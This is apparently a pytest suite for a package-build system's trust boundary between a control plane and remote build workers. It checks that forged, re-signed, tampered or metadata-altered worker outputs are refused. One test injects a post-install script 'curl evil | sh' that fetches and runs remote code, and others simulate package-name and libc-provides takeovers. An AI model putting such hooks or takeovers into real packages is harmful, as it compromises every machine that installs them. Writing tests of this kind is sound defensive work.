"""Issue 15's trust boundary, for the build job: prepare (control plane) -> the worker function in
a subprocess with a scrubbed environment -> seal/unseal -> accept (verify, sign, publish).

The same recipe built locally (``build_recipes``) and through the split publishes byte-identical
packages and index entries; a worker's output that is not the job's, signed by the worker, or
sealed by another worker is refused and nothing is published."""

from __future__ import annotations

import base64
import hashlib
import http.server
import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).parents[1] / "builder"))

from build_testlib import Upstream, _Handler

from nanodistro.builder.orchestrate import BuildConfig, build_recipes
from nanodistro.errors import BuildError, TransientError, TrustError
from nanodistro.factory import events
from nanodistro.factory.building import recipe_digest
from nanodistro.factory.jobs import JobSpec
from nanodistro.factory.remote import (
    WORKER_FUNCTIONS,
    WorkerContext,
    WorkerRegistry,
    control_kinds,
    seal,
    unseal,
)
from nanodistro.factory.state import open_state
from nanodistro.formats.apk import read_apk, sign_unsigned_apk, write_apk
from nanodistro.formats.pkginfo import PackageInfo
from nanodistro.formats.tarball import TarEntry, gzip_members, read_tar
from nanodistro.repo import publish
from nanodistro.trust.ecdsa import generate_signer
from nanodistro.trust.keys import generate_key, load_keyring, load_signing_key

MTIME = 1_700_000_000
RECIPE = """package:
  name: hello
  version: "1.0"
  epoch: 0
  description: says hello
  copyright:
    - license: MIT
  dependencies:
    runtime: [envtool]
environment:
  contents:
    packages: [busybox, envtool]
pipeline:
  - uses: fetch
    with:
      uri: {url}
      expected-sha256: {sha}
  - uses: patch
    with:
      patches: fix.patch
  - runs: |
      test -f /usr/share/envtool
      mkdir -p ${{{{targets.destdir}}}}/usr/share/hello ${{{{targets.destdir}}}}/usr/share/doc/hello
      cp hello.txt ${{{{targets.destdir}}}}/usr/share/hello/
      echo notes > ${{{{targets.destdir}}}}/usr/share/doc/hello/README
subpackages:
  - name: hello-doc
    pipeline:
      - runs: |
          mkdir -p ${{{{targets.subpkgdir}}}}/usr/share
          mv ${{{{targets.destdir}}}}/usr/share/doc ${{{{targets.subpkgdir}}}}/usr/share/
test:
  environment:
    contents:
      packages: [busybox]
  pipeline:
    - runs: grep -qx patched /usr/share/hello/hello.txt
"""
PATCH = "--- a/hello.txt\n+++ b/hello.txt\n@@ -1 +1 @@\n-original\n+patched\n"

# the worker process: a payload in, the sealed output out; nothing else in its environment
WORKER_SCRIPT = """
import json, os, sys
from pathlib import Path
from nanodistro.factory.remote import WORKER_FUNCTIONS, WorkerContext, seal
request = json.loads(Path(sys.argv[1]).read_text())
ctx = WorkerContext("w1", Path(sys.argv[3]) / "work", Path(sys.argv[3]) / "cache")
output = WORKER_FUNCTIONS[request["kind"]](request["payload"], ctx)
sealed = seal(output, job_key=request["job"], attempt=1, worker="w1", token=os.environ["TOKEN"])
Path(sys.argv[2]).write_text(json.dumps({"sealed": sealed, "environ": dict(os.environ)}))
"""


def _serve(root: Path) -> Iterator[str]:
    class Handler(_Handler):
        def __init__(self, *args: object, **kwargs: object) -> None:
            super().__init__(*args, directory=str(root), **kwargs)  # type: ignore[arg-type]

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def upstream(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Upstream]:
    root = tmp_path_factory.mktemp("upstream")
    for url in _serve(root):
        yield Upstream(root, url)


def _envtool(key: Any) -> bytes:
    info = PackageInfo(
        name="envtool", version="1-r0", arch="x86_64", description="t", license="MIT"
    )
    entries = [
        TarEntry("usr", "dir", mode=0o755, mtime=MTIME),
        TarEntry("usr/share", "dir", mode=0o755, mtime=MTIME),
        TarEntry("usr/share/envtool", "file", mode=0o644, mtime=MTIME, data=b"1"),
    ]
    return write_apk(info, entries, key=key, source_date_epoch=MTIME)


class Site(SimpleNamespace):
    """A control plane: keys, a base repository (envtool), a recipe and its state."""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, upstream: Upstream) -> Iterator[Site]:
    """Keys, a recipe, and repositories holding envtool (its build dependency), served over
    HTTP on 127.0.0.1 as workers on other machines read them."""
    base = tmp_path_factory.mktemp("remote-site")
    keys = base / "keys"
    private, _ = generate_key("factory", keys, bits=2048)
    key = load_signing_key(private)
    apk = base / "envtool-1-r0.apk"
    apk.write_bytes(_envtool(key))
    for name in ("local", "remote", "unpublished", *ATTACKS):
        publish([apk], base / f"repo-{name}", key)
    url, sha = upstream.add_tarball("hello-1.0.tar.gz", {"hello.txt": "original\n"}, top="hello")
    recipes = base / "recipes"
    (recipes / "hello").mkdir(parents=True)
    recipe = recipes / "hello.yaml"
    recipe.write_text(RECIPE.format(url=url, sha=sha))
    (recipes / "hello" / "fix.patch").write_text(PATCH)
    registry = WorkerRegistry(base / ".nanodistro")
    for url in _serve(base):
        yield Site(
            base=base,
            url=url,
            private=private,
            key=key,
            keyring=load_keyring(keys),
            signer=generate_signer(),
            recipe=recipe,
            registry=registry,
            token=registry.create("w1"),
            other_token=registry.create("w2"),
        )


ATTACKS = ("name", "version", "extra", "signed-0", "signed-1", "seal", "failed", "script")
ATTACKS += tuple(f"meta-{n}" for n in ("provides", "replaces", "priority", "depends", "license"))
ATTACKS += ("shapes", "huge-error")


def _config(site: Site, repo: Path, cache: Path) -> BuildConfig:
    return BuildConfig(
        arch="x86_64",
        repo=repo,
        key=site.key,
        keyring=site.keyring,
        source_cache=cache,
        provenance_key=site.signer,
        namespace="remote-test",
    )


def _plan(site: Site, name: str) -> Any:
    state = open_state(f"sqlite:///{site.base / f'{name}.db'}")
    config = _config(site, site.base / f"repo-{name}", site.base / f"cache-{name}")
    return SimpleNamespace(state=state, config=config, say=lambda _m: None)


def _kinds(site: Site, plan: Any) -> Any:
    return control_kinds(plan, None, repository_url=f"{site.url}/{plan.config.repo.name}")


def _inputs(site: Site) -> dict[str, Any]:
    return {
        "recipe": "hello",
        "path": str(site.recipe),
        "arch": "x86_64",
        "version": "1.0-r0",
        "recipe_sha256": recipe_digest(site.recipe),
        "triggers": {},
    }


def _run_worker(site: Site, kind: str, payload: dict[str, Any], job: str) -> dict[str, Any]:
    """WORKER_FUNCTIONS[kind] in a fresh process whose environment holds only PATH, HOME, the
    index-replay file and the worker's token: no key path, no state URL."""
    scratch = site.base / f"worker-{kind}-{job[:8]}"
    scratch.mkdir()
    request, answer = scratch / "request.json", scratch / "answer.json"
    request.write_text(json.dumps({"kind": kind, "payload": payload, "job": job}))
    env = {
        "PATH": os.environ["PATH"],
        "HOME": str(scratch),
        "NANODISTRO_INDEX_STATE": str(scratch / "index-state.json"),
        "TOKEN": site.token,
    }
    done = subprocess.run(
        [sys.executable, "-c", WORKER_SCRIPT, request, answer, scratch],
        env=env,
        cwd=scratch,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    result: dict[str, Any] = json.loads(answer.read_text())
    return result


@pytest.fixture(scope="module")
def remote(site: Site) -> SimpleNamespace:
    """The recipe built through the split (worker in a subprocess), and published."""
    plan = _plan(site, "remote")
    kinds = _kinds(site, plan)
    inputs = _inputs(site)
    job = JobSpec("build", inputs).key
    payload = kinds["build"].prepare(inputs)
    answer = _run_worker(site, "build", payload, job)
    worker, output = unseal(answer["sealed"], job_key=job, token_for=site.registry.token_for)
    result = kinds["build"].accept(inputs, output, worker)
    return SimpleNamespace(
        plan=plan,
        kinds=kinds,
        inputs=inputs,
        job=job,
        payload=payload,
        answer=answer,
        output=output,
        result=result,
    )


@pytest.fixture(scope="module")
def local(site: Site) -> Path:
    """The same recipe built and published by build_recipes (the local executor's way)."""
    config = _config(site, site.base / "repo-local", site.base / "cache-local")
    (result,) = build_recipes([site.recipe], config)
    assert [p.name for p in result.published] == ["hello-1.0-r0.apk", "hello-doc-1.0-r0.apk"]
    return site.base / "repo-local"


def _index(repo: Path) -> bytes:
    """The APKINDEX text of a repository's x86_64 index (the signature aside)."""
    data = (repo / "x86_64" / "APKINDEX.tar.gz").read_bytes()
    members = gzip_members(data, where="APKINDEX")
    entries = {e.path: e.data for e in read_tar(members[-1].inflated, where="APKINDEX")}
    return entries["APKINDEX"]


def _fresh_accept(site: Site, name: str) -> tuple[Any, Path]:
    """A control plane with an empty repository: its build kind's accept, and the repository."""
    plan = _plan(site, name)
    return _kinds(site, plan)["build"].accept, plan.config.repo


def _nothing_published(repo: Path) -> bool:
    return sorted(p.name for p in (repo / "x86_64").glob("*.apk")) == ["envtool-1-r0.apk"]


def _reworked(output: dict[str, Any], change: Any) -> dict[str, Any]:
    """``output`` with ``change(info)`` applied to the main package (rewritten, unsigned)."""
    packages = []
    for item in output["packages"]:
        data = base64.b64decode(item["data"])
        if item["file"].startswith("hello-1"):
            apk = read_apk(data, where=item["file"])
            info = apk.info.copy()
            change(info)
            data = write_apk(
                info,
                apk.entries,
                key=None,
                source_date_epoch=info.builddate or 0,
                scripts=apk.scripts,
                extra_control=apk.extra_control,
            )
            item = {**item, "file": f"{info.name}-{info.version}.apk"}
        packages.append({**item, "data": base64.b64encode(data).decode()})
    return {**output, "packages": packages}


# ------------------------------------------------------------------------------ equivalence


@pytest.mark.slow
def test_split_build_publishes_byte_identical_packages_and_index(
    site: Site, remote: SimpleNamespace, local: Path
) -> None:
    repo = remote.plan.config.repo
    # the worker read the control plane's repository over HTTP (indexes verified with the
    # public keys it was sent), not from the control plane's disk
    assert remote.payload["repositories"] == [f"{site.url}/repo-remote"]
    assert remote.result["status"] == "built"
    assert [p["file"] for p in remote.result["published"]] == [
        "hello-1.0-r0.apk",
        "hello-doc-1.0-r0.apk",
    ]
    for file in ("hello-1.0-r0.apk", "hello-doc-1.0-r0.apk"):
        mine, theirs = (repo / "x86_64" / file).read_bytes(), (local / "x86_64" / file).read_bytes()
        assert hashlib.sha256(mine).hexdigest() == hashlib.sha256(theirs).hexdigest()
        # the worker sent it unsigned; the control plane's signature makes it the local bytes
        item = next(p for p in remote.output["packages"] if p["file"] == file)
        assert read_apk(base64.b64decode(item["data"]), where=file).signature is None
    assert _index(repo) == _index(local)
    # provenance signed by the control plane, naming the worker as the builder
    envelope = json.loads((repo / "x86_64" / "hello-1.0-r0.apk.intoto.jsonl").read_text())
    statement = json.loads(base64.b64decode(envelope["payload"]))
    builder = statement["predicate"]["runDetails"]["builder"]["id"]
    assert builder.endswith("/workers/w1#remote-test")
    # the same events as the local build handler, naming the worker
    types = [e.type for e in events.query(remote.plan.state, subject="recipe:hello")]
    assert types == [events.BUILD_STARTED, events.TEST_PASSED, events.BUILD_SUCCEEDED]


@pytest.mark.slow
def test_accepting_the_same_job_twice_publishes_nothing_new(
    site: Site, remote: SimpleNamespace
) -> None:
    repo = remote.plan.config.repo
    before = {p.name: p.read_bytes() for p in (repo / "x86_64").iterdir()}
    again = remote.kinds["build"].accept(remote.inputs, remote.output, "w1")
    assert [p["sha256"] for p in again["published"]] == [
        p["sha256"] for p in remote.result["published"]
    ]
    assert {p.name: p.read_bytes() for p in (repo / "x86_64").iterdir()} == before
    # and a job prepared again finds it published: the worker is told to skip it
    payload = remote.kinds["build"].prepare(remote.inputs)
    assert payload["skip"] is True
    output = WORKER_FUNCTIONS["build"](payload, None)  # type: ignore[arg-type]
    assert remote.kinds["build"].accept(remote.inputs, output, "w1")["status"] == "unchanged"


@pytest.mark.slow
def test_split_test_job_runs_the_recipes_tests_on_the_worker(
    site: Site, remote: SimpleNamespace
) -> None:
    repo = remote.plan.config.repo / "x86_64"
    shas = {f: hashlib.sha256((repo / f).read_bytes()).hexdigest() for f in ("hello-1.0-r0.apk",)}
    inputs = {
        **{k: remote.inputs[k] for k in ("recipe", "path", "arch", "version", "recipe_sha256")},
        "packages": shas,
        "against": {"envtool-1-r0.apk": hashlib.sha256(b"").hexdigest()},
    }
    job = JobSpec("test", inputs).key
    payload = remote.kinds["test"].prepare(inputs)
    answer = _run_worker(site, "test", payload, job)
    worker, output = unseal(answer["sealed"], job_key=job, token_for=site.registry.token_for)
    assert output["passed"] is True and output["tests"] == [
        {"package": "hello", "passed": True, "steps": 1}
    ]
    assert remote.kinds["test"].accept(inputs, output, worker) == {"passed": True}
    last = events.query(remote.plan.state, subject="recipe:hello")[-1]
    assert (last.type, last.payload["worker"]) == (events.TEST_PASSED, "w1")
    # a failed verdict fails the job and is recorded as such
    with pytest.raises(BuildError, match="on worker w1: test failed: boom"):
        remote.kinds["test"].accept(inputs, {"passed": False, "error": "test failed: boom"}, "w1")
    last = events.query(remote.plan.state, subject="recipe:hello")[-1]
    assert last.type == events.TEST_FAILED


@pytest.mark.slow
def test_a_failure_on_the_worker_comes_back_as_output_and_fails_the_job(
    site: Site, remote: SimpleNamespace, tmp_path: Path
) -> None:
    # recipe files changed on the way: the worker refuses to build them
    payload = json.loads(json.dumps(remote.kinds["build"].prepare(dict(remote.inputs))))
    if payload.get("skip"):  # published already by the module's build: ask for a fresh one
        payload = _plan_payload(site, remote.inputs)
    payload["files"]["hello/fix.patch"] = base64.b64encode(b"--- evil\n").decode()
    output = WORKER_FUNCTIONS["build"](payload, WorkerContext("w1", tmp_path / "w", tmp_path / "c"))
    assert output["status"] == "failed" and output["transient"] is False
    assert "do not hash to the job's recipe sha256" in output["error"]
    accept, repo = _fresh_accept(site, "failed")
    with pytest.raises(BuildError, match=r"on worker w1: .*do not hash"):
        accept(remote.inputs, output, "w1")
    with pytest.raises(TransientError, match="on worker w1: upstream down"):
        accept(
            remote.inputs, {"status": "failed", "error": "upstream down", "transient": True}, "w1"
        )
    assert _nothing_published(repo)


def _plan_payload(site: Site, inputs: dict[str, Any]) -> dict[str, Any]:
    """A build payload from a control plane that has not published the recipe yet."""
    payload: dict[str, Any] = _kinds(site, _plan(site, "unpublished"))["build"].prepare(inputs)
    return json.loads(json.dumps(payload))


# --------------------------------------------------------------------------------- attacks


@pytest.mark.slow
def test_payload_and_worker_environment_hold_no_private_key_or_state_url(
    site: Site, remote: SimpleNamespace
) -> None:
    text = json.dumps(remote.payload)
    assert "PRIVATE KEY" not in text
    assert base64.b64encode(site.private.read_bytes()).decode()[:40] not in text
    assert site.private.read_text() not in text
    assert str(site.private) not in text and str(site.private.parent) not in text
    assert site.signer.private_pem().decode() not in text
    assert "sqlite" not in text and ".db" not in text
    environ = remote.answer["environ"]
    # what the test gave it, and what Python itself may add (locale coercion)
    assert set(environ) <= {"PATH", "HOME", "NANODISTRO_INDEX_STATE", "TOKEN", "LC_CTYPE"}
    assert not any("KEY" in name or "STATE_URL" in name for name in environ)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda info: setattr(info, "name", "sshd"), "package 'sshd' is not one the recipe makes"),
        (lambda info: setattr(info, "version", "9.9-r0"), "version 9.9-r0, the job is for 1.0-r0"),
    ],
)
def test_a_package_that_is_not_the_jobs_is_refused_and_nothing_published(
    site: Site, remote: SimpleNamespace, change: Any, message: str
) -> None:
    accept, repo = _fresh_accept(site, "name" if message.startswith("package") else "version")
    with pytest.raises(TrustError, match=message):
        accept(remote.inputs, _reworked(remote.output, change), "w1")
    assert _nothing_published(repo)


@pytest.mark.slow
def test_a_missing_or_extra_package_or_field_is_refused(
    site: Site, remote: SimpleNamespace
) -> None:
    accept, repo = _fresh_accept(site, "extra")
    only_main = {**remote.output, "packages": remote.output["packages"][:1]}
    with pytest.raises(TrustError, match="the recipe makes hello, hello-doc"):
        accept(remote.inputs, only_main, "w1")
    doubled = {**remote.output, "packages": remote.output["packages"] * 2}
    with pytest.raises(TrustError, match="refused"):
        accept(remote.inputs, doubled, "w1")
    with pytest.raises(TrustError, match="unexpected fields extra"):
        accept(remote.inputs, {**remote.output, "extra": 1}, "w1")
    recorded = _reworked(remote.output, lambda info: None)
    other_recipe = dict(remote.inputs, recipe_sha256="0" * 64)
    with pytest.raises(BuildError, match="the recipe changed while the job ran"):
        accept(other_recipe, recorded, "w1")
    assert _nothing_published(repo)


@pytest.mark.slow
def test_a_package_the_worker_signed_is_refused(
    site: Site, remote: SimpleNamespace, tmp_path: Path
) -> None:
    """Decision: refused, not re-signed. A worker holds no key; a signature segment means it
    does (or someone rewrote its output), and its package is not taken whatever the key."""
    private, _ = generate_key("worker", tmp_path, bits=2048)
    # even one signed with the factory's own key
    for number, key in enumerate((load_signing_key(private), site.key)):
        packages = [
            {
                **item,
                "data": base64.b64encode(
                    sign_unsigned_apk(base64.b64decode(item["data"]), key, where=item["file"])
                ).decode(),
            }
            for item in remote.output["packages"]
        ]
        accept, repo = _fresh_accept(site, f"signed-{number}")
        with pytest.raises(TrustError, match="expected an unsigned package"):
            accept(remote.inputs, {**remote.output, "packages": packages}, "w1")
        assert _nothing_published(repo)


@pytest.mark.slow
def test_output_sealed_by_another_worker_or_tampered_is_refused_before_accept(
    site: Site, remote: SimpleNamespace
) -> None:
    accept, repo = _fresh_accept(site, "seal")

    def receive(sealed: dict[str, Any], job: str = remote.job) -> Any:
        worker, output = unseal(sealed, job_key=job, token_for=site.registry.token_for)
        return accept(remote.inputs, output, worker)

    sealed = remote.answer["sealed"]
    # w2 seals a forged output claiming to be w1
    forged = seal(
        _reworked(remote.output, lambda i: None),
        job_key=remote.job,
        attempt=1,
        worker="w1",
        token=site.other_token,
    )
    with pytest.raises(TrustError, match="worker w1: the output's MAC does not verify"):
        receive(forged)
    # w1's genuine output, changed after sealing
    tampered = json.loads(json.dumps(sealed))
    tampered["output"]["packages"][0]["file"] = "sshd-1.0-r0.apk"
    with pytest.raises(TrustError, match="MAC does not verify"):
        receive(tampered)
    # w1's genuine output presented for another job
    with pytest.raises(TrustError, match="answers job"):
        receive(sealed, job="f" * 64)
    assert _nothing_published(repo)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "change", "message"),
    [
        # take over another package's name: resolvers would pick hello for libc's dependents
        (
            "provides",
            lambda info: info.provides.append("so:libc.musl-x86_64.so.1=1"),
            r"hello-1\.0-r0\.apk: refused: provides \[.*'so:libc\.musl-x86_64\.so\.1=1'",
        ),
        (
            "replaces",
            lambda info: info.replaces.append("busybox"),
            "replaces \\['busybox'\\], the recipe",
        ),
        (
            "priority",
            lambda info: setattr(info, "provider_priority", 999),
            "provider_priority 999, the",
        ),
        ("depends", lambda info: info.depends.clear(), "depends \\[\\], the recipe and files"),
        ("license", lambda info: setattr(info, "license", "Proprietary"), "license 'Proprietary'"),
    ],
)
def test_package_metadata_the_recipe_does_not_give_is_refused(
    site: Site, remote: SimpleNamespace, name: str, change: Any, message: str
) -> None:
    """The worker keeps the job's name, version and recipe hash but rewrites .PKGINFO: the
    control plane re-derives it from the recipe and the returned files; nothing published."""
    accept, repo = _fresh_accept(site, f"meta-{name}")
    with pytest.raises(TrustError, match=message):
        accept(remote.inputs, _reworked(remote.output, change), "w1")
    assert _nothing_published(repo)


@pytest.mark.slow
def test_an_install_script_the_recipe_does_not_have_is_refused(
    site: Site, remote: SimpleNamespace
) -> None:
    """A post-install script (run as root by apk on every machine installing hello) added by
    the worker: refused, nothing published."""
    packages = []
    for item in remote.output["packages"]:
        data = base64.b64decode(item["data"])
        if item["file"].startswith("hello-1"):
            apk = read_apk(data, where=item["file"])
            data = write_apk(
                apk.info.copy(),
                apk.entries,
                key=None,
                source_date_epoch=apk.info.builddate or 0,
                scripts={**apk.scripts, "post-install": b"#!/bin/sh\ncurl evil | sh\n"},
                extra_control=apk.extra_control,
            )
        packages.append({**item, "data": base64.b64encode(data).decode()})
    accept, repo = _fresh_accept(site, "script")
    with pytest.raises(
        TrustError, match=r"install scripts \['\.post-install'\], the recipe has \[\]"
    ):
        accept(remote.inputs, {**remote.output, "packages": packages}, "w1")
    assert _nothing_published(repo)


@pytest.mark.slow
def test_outputs_of_the_wrong_shapes_are_refused_as_untrusted(
    site: Site, remote: SimpleNamespace
) -> None:
    """Text, NaN or 1e999 where seconds go, a date that is not a number, origins that are not
    lists: a TrustError naming the worker (was a ValueError/OverflowError/TypeError, reported
    as a bug in nanodistro), nothing published."""
    accept, repo = _fresh_accept(site, "shapes")
    facts = remote.output["facts"]
    first = remote.output["packages"][0]
    for output in (
        {**remote.output, "seconds": "soon"},
        {**remote.output, "seconds": float("nan")},
        {**remote.output, "seconds": float("inf")},  # what JSON 1e999 reads as
        {**remote.output, "facts": {**facts, "source_date_epoch": "soon"}},
        {**remote.output, "facts": {**facts, "toolchain": 5}},
        {
            **remote.output,
            "packages": [{**first, "origins": {"so:x": 5}}, *remote.output["packages"][1:]],
        },
    ):
        with pytest.raises(TrustError, match="worker w1"):
            accept(remote.inputs, output, "w1")
    assert _nothing_published(repo)


@pytest.mark.slow
def test_a_huge_error_text_is_clipped_before_it_is_recorded(
    site: Site, remote: SimpleNamespace
) -> None:
    """A worker's 10 MB "error" does not go whole into the event log, the job's row and the
    message: 4,000 characters are kept, the cut is said."""
    accept, _repo = _fresh_accept(site, "huge-error")
    with pytest.raises(BuildError) as raised:
        accept(remote.inputs, {"status": "failed", "error": "x" * 10_000_000}, "w1")
    assert len(str(raised.value)) < 5000 and "(9996000 more)" in str(raised.value)
    with open_state(f"sqlite:///{site.base / 'huge-error.db'}") as state:
        failed = events.query(state, subject="recipe:hello", types=[events.BUILD_FAILED])
    assert failed and len(json.dumps(failed[-1].payload)) < 10_000
